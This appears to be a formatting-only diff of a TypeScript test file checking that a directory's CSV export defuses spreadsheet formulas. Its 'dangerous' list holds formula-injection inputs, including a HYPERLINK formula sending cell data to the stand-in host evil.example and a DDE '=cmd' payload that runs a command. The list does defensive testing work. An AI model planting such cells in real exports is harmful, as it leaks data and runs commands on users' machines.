@@ -3,7 +3,13 @@ import { directory, toCsv } from './directory.ts';
 
 /** Cells that a spreadsheet would run. */
 export const dangerous = [
-  ...['=1+1', '=HYPERLINK("https://evil.example/?"&A1;"press")', "=cmd|' /C calc'!A0", '+49 30 1234', '-5% for students'],
+  ...[
+    '=1+1',
+    '=HYPERLINK("https://evil.example/?"&A1;"press")',
+    "=cmd|' /C calc'!A0",
+    '+49 30 1234',
+    '-5% for students',
+  ],
   ...['@SUM(1;2)', '＝1+1', '＋1', '－1', '＠x'],
 ];
 /** Cells that only look a little like them. */
@@ -22,7 +28,14 @@ const formulas = [...dangerous, ...harmless].map((cell, at) => ({
 const letters = 'ΟΔΟΣ οδοσ οδος İstanbul istanbul i̇stanbul STRASSE Straße ǅ ǆ Ǆ ẞ ß K k'.split(' ');
 const spellings = letters.map((technology, at) => ({ ...api, slug: `o${at}`, provider: 'Aardvark', technology }));
 
-const explorer = { starred: false, fullHistory: true, smartContractsVerifications: true, technology: 'EVM', chain: 'mainnet', provider: 'Aardvark' };
+const explorer = {
+  starred: false,
+  fullHistory: true,
+  smartContractsVerifications: true,
+  technology: 'EVM',
+  chain: 'mainnet',
+  provider: 'Aardvark',
+};
 const placeholders = [
   { ...explorer, slug: 'a-scan', pricing: 'TBD', availableApis: ['REST', 'N/A'], searchCapabilities: ['#REF!'] },
   { ...explorer, slug: 'b-scan', pricing: 'Free', availableApis: ['REST'], searchCapabilities: ['blocks'] },
